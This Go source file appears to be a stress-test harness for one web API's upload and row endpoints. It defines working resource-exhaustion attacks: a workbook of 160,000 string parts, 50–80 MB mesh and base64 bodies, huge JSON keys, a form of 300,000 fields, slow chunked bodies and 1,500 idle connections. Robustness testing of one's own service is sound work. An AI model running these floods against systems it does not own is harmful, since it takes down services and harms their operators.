package main

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"time"
)

// attack is one way to hurt a server; once makes it once and tells the answer.
type attack struct {
	name    string
	workers int
	once    func(addr string, end time.Time) string
}

const xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

// The bodies are made once, when they are first sent.
var (
	workbook = sync.OnceValue(func() []byte {
		return book("<sst><si>" + strings.Repeat("<t>aaaaaaaa</t>", 160_000) + "</si></sst>")
	})
	stl = sync.OnceValue(func() []byte {
		const triangles = 1_000_000
		file := make([]byte, 84+50*triangles)
		binary.LittleEndian.PutUint32(file[80:], triangles)
		for i := range triangles {
			file[84+50*i+12] = byte(i)
			file[84+50*i+25] = byte(i >> 8)
		}
		return file
	})
	encoded = sync.OnceValue(func() []byte {
		return []byte(`{"stl_base64": "` + base64.StdEncoding.EncodeToString(append(stl(), make([]byte, 10<<20)...)) + `"}`)
	})
	keys = sync.OnceValue(func() []byte {
		var b bytes.Buffer
		b.WriteByte('{')
		for i := range 80_000 {
			fmt.Fprintf(&b, `"sz%d":1,`, i)
		}
		return append(b.Bytes(), `"size":"7"}`...)
	})
	fields = sync.OnceValue(func() []byte {
		return []byte(strings.Repeat("--B\r\nContent-Disposition: form-data; name=\"unti\"\r\n\r\nmm\r\n", 300_000) + "--B--\r\n")
	})
)

// book is a workbook of one sheet with that table of texts.
func book(texts string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for name, text := range map[string]string{
		"[Content_Types].xml":        `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`,
		"_rels/.rels":                `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
		"xl/workbook.xml":            `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>`,
		"xl/_rels/workbook.xml.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
		"xl/worksheets/sheet1.xml":   `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>`,
		"xl/sharedStrings.xml":       texts,
	} {
		w, _ := z.Create(name)
		_, _ = io.WriteString(w, text)
	}
	_ = z.Close()
	return b.Bytes()
}

// send posts a body and tells the status.
func send(path, mediaType string, body func() []byte) func(string, time.Time) string {
	return func(addr string, _ time.Time) string {
		r, err := client.Post("http://"+addr+path, mediaType, bytes.NewReader(body()))
		if err != nil {
			return "cut"
		}
		defer r.Body.Close()
		_, _ = io.Copy(io.Discard, r.Body)
		if r.StatusCode == http.StatusServiceUnavailable || r.StatusCode == http.StatusTooManyRequests {
			time.Sleep(100 * time.Millisecond) // less often than Retry-After asks
		}
		return strconv.Itoa(r.StatusCode)
	}
}

// hold opens a connection, sends the head and then a byte at a time.
func hold(head string, pause time.Duration) func(string, time.Time) string {
	return func(addr string, end time.Time) string {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			return "refused"
		}
		defer c.Close()
		_, _ = io.WriteString(c, head)
		for time.Now().Before(end) {
			_ = c.SetReadDeadline(time.Now().Add(pause))
			if _, err := c.Read(make([]byte, 512)); err == nil || !isTimeout(err) {
				return "closed"
			}
			if head != "" {
				_, _ = io.WriteString(c, "1\r\n \r\n")
			}
		}
		return "held"
	}
}

func isTimeout(err error) bool {
	e, ok := err.(net.Error)
	return ok && e.Timeout()
}

func text(s string) func() []byte { return func() []byte { return []byte(s) } }

var attacks = []attack{
	{"workbook of texts in 160,000 parts", 2, send("/v1/ring-sizes/rows", xlsx, workbook)},
	{"CSV header of 6 MB of commas", 2, send("/v1/ring-sizes/rows", "text/csv", text(strings.Repeat(",", 6<<20)+"\n"))},
	{"eight solids of 50 MB", 8, send("/v1/meshes", "model/stl", stl)},
	{"two bodies of 80 MB in base64", 2, send("/v1/meshes", "application/json", encoded)},
	{"sixteen idle workbooks", 16, hold("POST /v1/ring-sizes/rows HTTP/1.1\r\nHost: x\r\nContent-Type: "+xlsx+"\r\nTransfer-Encoding: chunked\r\n\r\n", 20*time.Second)},
	{"64 slow bodies", 64, hold("POST /v1/ring-sizes/rows HTTP/1.1\r\nHost: x\r\nContent-Type: text/csv\r\nTransfer-Encoding: chunked\r\n\r\n4000\r\n"+strings.Repeat("x", 0x4000)+"\r\n", 200*time.Millisecond)},
	{"1,500 idle connections", 1500, hold("", 20*time.Second)},
	{"80,000 unknown keys", 2, send("/v1/ring-sizes", "application/json", keys)},
	{"a key of 1 MB", 2, send("/v1/ring-sizes", "application/json", text(`{"`+strings.Repeat("k", 1<<20-20)+`":1}`))},
	{"a key of 20 MB where files go", 2, send("/v1/meshes", "application/json", text(`{"`+strings.Repeat("k", 20<<20)+`":1}`))},
	{"form of 300,000 fields", 2, send("/v1/meshes", "multipart/form-data; boundary=B", fields)},
	{"300,000 empty rows", 2, send("/v1/quotes/rows", "application/json", text("["+strings.Repeat("{},", 300_000)+"{}]"))},
	{"the heavy queue of one client", 30, send("/v1/fills/rows", "application/json", text(`[`+strings.Repeat(`{},`, 40)+`{}]`))},
}
